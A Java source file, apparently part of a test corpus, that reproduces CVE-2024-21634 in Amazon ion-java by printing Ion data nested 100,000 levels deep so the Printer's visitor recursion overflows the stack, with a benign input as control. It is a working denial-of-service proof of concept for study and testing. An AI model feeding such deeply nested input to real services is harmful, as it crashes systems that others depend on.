package corpus.ion;

import com.amazon.ion.IonSystem;
import com.amazon.ion.system.IonSystemBuilder;
import com.amazon.ion.util.Printer;
import corpus.CorpusDriver;

/**
 * Amazon Ion (ion-java) 1.10.4, CVE-2024-21634: Ion data nested deep enough loads into the
 * {@code IonValue} model, and methods that walk that model recurse once per level until the stack
 * runs out. Here the walk is the printer, a visitor across two packages joined only through
 * interface calls: {@code Printer$PrinterVisitor#visit} (com.amazon.ion.util) calls
 * {@code IonValue#accept} on each child, and {@code IonListLite#accept} (com.amazon.ion.impl.lite)
 * calls back through {@code ValueVisitor#visit}. (This path still overflows in 1.10.5.)
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = CorpusDriver.nested("[", "1", "]", depth);
        IonSystem ion = IonSystemBuilder.standard().build();
        CorpusDriver.run("ion", IonSystem.class,
                () -> print(ion, "{name: benign, items: [1, [2, [3]]], map: {a: b}}"),
                () -> print(ion, hostile));
    }

    private static String print(IonSystem ion, String text) throws Exception {
        StringBuilder out = new StringBuilder();
        new Printer().print(ion.singleValue(text), out);
        return out.toString();
    }
}
